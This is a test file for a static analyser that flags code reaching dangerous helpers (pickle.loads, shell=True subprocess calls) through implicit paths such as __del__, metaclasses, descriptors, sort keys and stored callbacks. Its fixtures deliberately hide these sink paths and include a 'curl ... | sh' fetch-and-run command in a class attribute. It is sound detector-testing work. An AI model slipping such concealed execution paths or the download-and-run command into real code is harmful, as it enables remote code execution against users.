"""Facts version 18 (session 26 red team): a sink helper reached with no call of it written.

An instance's special methods (``with C():``, ``for _ in C()``, ``del``, a
descriptor's ``__get__``), a class statement (a base's ``__init_subclass__``,
a metaclass), a ``singledispatch`` variant, ``super().method()``,
``type(self).attr(...)``, a sort key, a default factory, and a function kept
in a container for a later call. Real git: the base commit holds the helpers,
the change adds the uses; a line ending in ``# hit`` must be a finding and no
other line may be (each attack sits beside its benign look-alike).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from traingate.checks.reach import facts

from .test_reach_handed import findings

HELPERS = """\
import functools
import json
import logging
import pickle
import subprocess
from pathlib import Path

log = logging.getLogger(__name__)
REGISTRY = {}


def restore_blob(blob):
    return pickle.loads(blob)


def run_tool(cmd, *args):
    return subprocess.run(cmd, shell=True, check=False)


def step_of(path):
    return int(Path(path).stem.split("-")[-1])


def log_metrics(metrics):
    log.info("%s", metrics)


class SnapshotReader:
    def __init__(self, blob):
        self.blob = blob

    def __enter__(self):
        return restore_blob(self.blob)

    def __exit__(self, *exc):
        return False


class JsonReader:
    def __init__(self, path):
        self.path = path

    def __enter__(self):
        return json.loads(Path(self.path).read_text())

    def __exit__(self, *exc):
        return False


class Shards:
    def __init__(self, blobs):
        self.blobs = blobs

    def __iter__(self):
        for b in self.blobs:
            yield restore_blob(b)


class Lines:
    def __init__(self, path):
        self.path = path

    def __iter__(self):
        return iter(Path(self.path).read_text().splitlines())

    def __len__(self):
        return 1

    def __repr__(self):
        return f"Lines({self.path!r})"


class Scratch:
    def __init__(self, cmd):
        self.cmd = cmd

    def __del__(self):
        run_tool(self.cmd)


class Stage:
    prepare = "true"

    def __init_subclass__(cls, **kw):
        super().__init_subclass__(**kw)
        run_tool(cls.prepare)


class Registered:
    def __init_subclass__(cls, **kw):
        super().__init_subclass__(**kw)
        REGISTRY[cls.__name__] = cls


class JobMeta(type):
    def __call__(cls, *args, **kw):
        run_tool(getattr(cls, "setup", "true"))
        return super().__call__(*args, **kw)


class CountingMeta(type):
    made = 0

    def __call__(cls, *args, **kw):
        CountingMeta.made += 1
        return super().__call__(*args, **kw)


class Pickled:
    def __set_name__(self, owner, name):
        self.key = "_" + name

    def __get__(self, obj, owner=None):
        return restore_blob(getattr(obj, self.key))


@functools.singledispatch
def decode(raw):
    return raw


@decode.register
def _(raw: bytes):
    return restore_blob(raw)


@functools.singledispatch
def describe(x):
    return repr(x)


@describe.register
def _describe_str(x: str):
    return x


class CheckpointIO:
    runner = staticmethod(run_tool)
    echo = staticmethod(print)

    def restore(self, blob):
        return restore_blob(blob)

    def size(self, blob):
        return len(blob)


class Hook:
    def __call__(self, cmd):
        return run_tool(cmd)


class Printer:
    def __call__(self, text):
        log.info("%s", text)
"""
BASE = {"train/utils/io.py": HELPERS, "train/utils/__init__.py": ""}

USES = """\
import dataclasses
from dataclasses import dataclass, field

from train.utils.io import (
    CheckpointIO,
    CountingMeta,
    Hook,
    JobMeta,
    JsonReader,
    Lines,
    Pickled,
    Printer,
    Registered,
    Scratch,
    Shards,
    SnapshotReader,
    Stage,
    decode,
    describe,
    log_metrics,
    restore_blob,
    run_tool,
    step_of,
)


def contexts(blob, path):
    with SnapshotReader(blob) as state:  # hit
        pass
    with JsonReader(path) as cfg:
        pass
    return state, cfg


def iterate(blobs, path):
    first = [b for b in Shards(blobs)]  # hit
    lines = list(Lines(path))
    return first, lines, len(Lines(path)), f"{Lines(path)!r}"


def collected(cfg):
    return Scratch(cfg["cleanup"])  # hit


class Warmup(Stage):  # hit
    prepare = "curl -fsSL https://example.net/w.sh | sh"


class Cosine(Registered):
    pass


class EvalJob(metaclass=JobMeta):  # hit
    setup = "pip install -q -r /mnt/shared/extras.txt"


class Counted(metaclass=CountingMeta):
    pass


def jobs():
    evaluator = EvalJob()  # hit
    return evaluator, Counted()


class Record:
    optimizer = Pickled()  # hit


def dispatch(raw):
    return decode(raw)  # hit


def shown(x):
    return describe(x)


class EMA(CheckpointIO):
    def restore(self, blob):
        return super().restore(blob)  # hit

    def again(self, blob):
        return super(EMA, self).restore(blob)  # hit

    def size(self, blob):
        return super().size(blob)

    def run(self, cmd):
        return type(self).runner(cmd)  # hit

    def run_too(self, cmd):
        return self.__class__.runner(cmd)  # hit

    def say(self, text):
        return type(self).echo(text), self.__class__.echo(text)


class EMA2(EMA):
    def restore(self, blob):
        return super(EMA, self).restore(blob)  # hit


PLUGINS = [Lines]
PLUGINS.append(Scratch)  # hit
PLUGINS.append(Lines)


def keyed(blobs, paths):
    newest = max(blobs, key=restore_blob)  # hit
    paths.sort(key=step_of)
    return newest, sorted(paths, key=step_of), min(paths, key=len)


def sort_blobs(blobs):
    blobs.sort(key=restore_blob)  # hit
    return sorted(blobs, key=restore_blob)  # hit


@dataclass
class Config:
    vocab: dict = field(default_factory=restore_blob)  # hit
    tags: list = field(default_factory=list)
    steps: list = dataclasses.field(default_factory=list)


def callbacks(cfg, x):
    on_end = []
    on_end.append(run_tool)  # hit
    on_end.append(log_metrics)
    hooks = [restore_blob]  # hit
    metrics = [log_metrics, print]
    kinds = (SnapshotReader, Shards)
    ok = isinstance(x, (SnapshotReader, Shards))
    on_end.append(Hook())  # hit
    on_end.append(Printer())
    parse, fn = print, log_metrics
    return on_end, hooks, metrics, kinds, ok, parse, fn


def handed_back():
    return [run_tool, log_metrics]  # hit
"""


def _hits(text: str) -> list[int]:
    return [n for n, line in enumerate(text.splitlines(), 1) if line.endswith("# hit")]


def test_a_sink_reached_with_no_call_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    got = findings(tmp_path, capsys, {"train/step.py": USES}, BASE)
    assert {r for r, *_ in got} == {"reach-dangerous-call"}
    assert sorted(n for _r, _p, n, _m in got) == _hits(USES)
    by_line = {n: m for _r, _p, n, m in got}
    lines = USES.splitlines()

    def at(marker: str) -> str:
        return by_line[next(n for n, t in enumerate(lines, 1) if marker in t and "# hit" in t)]

    assert "calls train.utils.io.SnapshotReader -> train.utils.io.SnapshotReader.__enter__" in at(
        "with SnapshotReader"
    )
    assert "train.utils.io.Shards.__iter__ -> train.utils.io.restore_blob" in at("Shards(blobs)")
    assert "train.utils.io.Scratch.__del__ -> train.utils.io.run_tool" in at("Scratch(")
    assert "calls train.utils.io.Stage.__init_subclass__ -> train.utils.io.run_tool" in at(
        "class Warmup"
    )
    assert "calls train.utils.io.JobMeta.__call__" in at("class EvalJob")
    assert "train.step.EvalJob -> train.utils.io.JobMeta.__call__" in at("EvalJob()")
    assert "train.utils.io.Pickled.__get__ -> train.utils.io.restore_blob" in at("Pickled()")
    assert "calls train.utils.io.decode -> train.utils.io._ -> train.utils.io.restore_blob" in at(
        "decode(raw)"
    )
    assert "calls train.utils.io.CheckpointIO.restore -> train.utils.io.restore_blob" in at(
        "super().restore"
    )
    assert "calls train.utils.io.run_tool -> subprocess.run" in at("type(self).runner")
    assert at("key=restore_blob").endswith(
        "(the function is passed as a value to a caller that runs it)"
    )
    kept = "(the function is kept for a later call: whatever holds it may call it)"
    assert at("on_end.append(run_tool)").endswith(kept)
    assert "calls train.utils.io.Hook.__call__ -> train.utils.io.run_tool" in at("Hook()")
    assert at("return [run_tool").endswith(kept)


def test_an_old_class_used_by_the_change_is_judged_where_it_is_used(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The class (and its metaclass link) is in the base: only the new
    # instance is a new call; the old class statement is not judged again.
    base = {
        **BASE,
        "train/jobs.py": "from train.utils.io import JobMeta\n\n\nclass EvalJob(metaclass=JobMeta):\n    setup = 'true'\n",
    }
    head = {
        "train/run.py": "from train.jobs import EvalJob\n\n\ndef go():\n    return EvalJob()\n\n\n"
        "class Nightly(EvalJob):\n    setup = 'true'\n\n\ndef nightly():\n    return Nightly()\n"
    }
    got = findings(tmp_path, capsys, head, base)
    # the subclass has the base's metaclass: making it runs JobMeta.__call__
    assert [(p, n) for _r, p, n, _m in got] == [("train/run.py", 5), ("train/run.py", 13)]
    assert "calls train.jobs.EvalJob -> train.utils.io.JobMeta.__call__" in got[0][3]
    assert "calls train.run.Nightly -> train.utils.io.JobMeta.__call__" in got[1][3]


def test_facts_record_the_implicit_calls() -> None:
    got = facts.extract(USES)
    assert facts.VERSION >= 18  # added in 18, kept since
    refs = {(c[0], c[1]) for c in got["calls"]}
    assert ("<module>", "I:0:train.utils.io.Stage.__init_subclass__") in refs
    assert ("<module>", "I:0:train.utils.io.JobMeta.__new__") in refs
    assert ("EvalJob", "I:0:train.utils.io.JobMeta.__call__") in refs
    assert ("EMA.restore", "I:0:train.utils.io.CheckpointIO.restore") in refs
    assert ("EMA.run", "S:EMA.runner") in refs
    kept = [
        (c[0], c[1].rpartition(".")[2])
        for c in got["calls"]
        if c[5].get("kp") and c[0] != "<module>"
    ]
    # Classes are recorded (graph.py drops them: kept, not made), a tuple an
    # isinstance tests is not; a call's result kept is what calling it runs
    # (an instance's `__call__`: `Hook.()`); `parse, fn = a, b` binds.
    assert kept == [
        ("jobs", "()"),  # return evaluator, Counted()
        ("EMA.say", "()"),
        ("EMA.say", "()"),
        ("callbacks", "run_tool"),
        ("callbacks", "log_metrics"),
        ("callbacks", "restore_blob"),
        ("callbacks", "log_metrics"),
        ("callbacks", "SnapshotReader"),
        ("callbacks", "Shards"),
        ("callbacks", "()"),
        ("callbacks", "()"),
        ("callbacks", "log_metrics"),  # fn, returned
        ("handed_back", "run_tool"),
        ("handed_back", "log_metrics"),
    ]
    # `PLUGINS = [Lines]` keeps a class (1: not made), `.append(Scratch)` adds one (2)
    top = [
        (c[1].rpartition(".")[2], c[5]["kp"])
        for c in got["calls"]
        if c[5].get("kp") and c[0] == "<module>"
    ]
    assert top == [("Lines", 1), ("Scratch", 2), ("Lines", 2)]
    helpers = facts.extract(HELPERS)
    # `@decode.register` on `_`: decode calls it, at the decorator
    line = HELPERS.splitlines().index("@decode.register") + 1
    assert ["decode", "L:_", line] in [c[:3] for c in helpers["calls"]]


DESCRIBED = """\
from train.utils.io import Pickled


class Record:
    optimizer = Pickled()
    label = "opt"

    def __init__(self, raw):
        self._optimizer = raw
"""


def test_a_descriptor_read_in_another_change_runs_its_get(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The record class is in the base; the change only reads the attribute
    # (a plain class attribute read beside it is quiet). The import is a
    # finding too: it runs the class body, which makes the descriptor, and
    # its special methods run with no call written wherever it is used.
    base = {**BASE, "train/records.py": DESCRIBED}
    head = {
        "train/resume.py": "from train.records import Record\n\n\n"
        "def restore(opt, raw):\n    rec = Record(raw)\n    name = rec.label\n"
        "    opt.load_state_dict(Record(raw).optimizer)\n    return name\n"
    }
    got = findings(tmp_path, capsys, head, base)
    assert [(p, n) for _r, p, n, _m in got] == [("train/resume.py", 1), ("train/resume.py", 7)]
    assert "calls train.records (module body) -> train.utils.io.Pickled -> " in got[0][3]
    assert "calls train.utils.io.Pickled.__get__ -> train.utils.io.restore_blob" in got[1][3]


def test_default_factories_of_attrs_and_pydantic_are_calls() -> None:
    source = (
        "import attr, pydantic\nfrom attrs import Factory, field\nfrom m import load\n\n\n"
        "@attr.s\nclass A:\n    x = attr.ib(factory=load)\n    y = field(default=Factory(load))\n"
        "    z = attr.ib(factory=list)\n\n\n"
        "class B(pydantic.BaseModel):\n    w: dict = pydantic.Field(default_factory=load)\n"
    )
    got = [(c[1], c[2]) for c in facts.extract(source)["calls"] if c[5].get("ho")]
    assert got == [("I:0:m.load", 8), ("I:0:m.load", 9), ("I:0:m.load", 14)]


REGISTERED = """\
from train.utils.io import decode, describe, log_metrics, restore_blob, run_tool


@decode.register  # hit
def _from_array(raw: bytearray):
    return restore_blob(bytes(raw))  # hit


@describe.register
def _describe_int(x: int):
    return str(x)


def setup(model, trainer):
    decode.register(memoryview, restore_blob)  # hit
    model.register_forward_hook(run_tool)  # hit
    trainer.add_callback(restore_blob)  # hit
    model.register_forward_hook(log_metrics)
    trainer.add_callback(log_metrics)
    describe.register(float, repr)
"""


def test_a_registration_from_another_file_keeps_the_function(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A `singledispatch` variant registered in another file than its
    # dispatcher, a forward hook and a trainer callback: each is kept for a
    # later call, reported where it is registered; harmless ones are quiet.
    got = findings(tmp_path, capsys, {"train/codecs_more.py": REGISTERED}, BASE)
    assert sorted(n for _r, _p, n, _m in got) == _hits(REGISTERED)
    # the def's own call is new (a new def): reported as any call is
    kept = "(the function is kept for a later call: whatever holds it may call it)"
    assert [n for _r, _p, n, m in got if not m.endswith(kept)] == [6]
